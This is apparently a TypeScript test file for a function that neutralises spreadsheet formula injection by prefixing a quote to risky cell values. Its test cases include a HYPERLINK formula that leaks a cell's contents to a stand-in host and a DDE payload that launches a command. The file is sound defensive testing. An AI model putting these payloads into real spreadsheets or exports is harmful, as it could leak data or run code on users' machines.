import assert from 'node:assert/strict';
import { test } from 'node:test';
import { spreadsheetSafe } from './spreadsheet-cell.ts';

test('every OWASP leading character gets a single quote in front', () => {
  const cases: Array<[string, string]> = [
    ['=1+2', "'=1+2"],
    ['+1+2', "'+1+2"],
    ['-1+2', "'-1+2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', "'\r=1+2"],
    ['\n=1+2', "'\n=1+2"],
    ['\0=1', "'\0=1"],
    ['=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['\uFF1D1+2', "'\uFF1D1+2"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20SUM(1)', "'\uFF20SUM(1)"],
    ['-5', "'-5"],
  ];
  for (const [input, expected] of cases)
    assert.equal(spreadsheetSafe(input), expected, JSON.stringify(input));
});

test('text that does not start with a trigger is left exactly as it was', () => {
  for (const text of [
    '',
    'signup',
    'https://shop.example/a=1',
    ' =1+2',
    "'=1+2",
    '{"a":"=1"}',
    '2026-03-10',
    '42',
  ]) {
    assert.equal(spreadsheetSafe(text), text, JSON.stringify(text));
  }
});
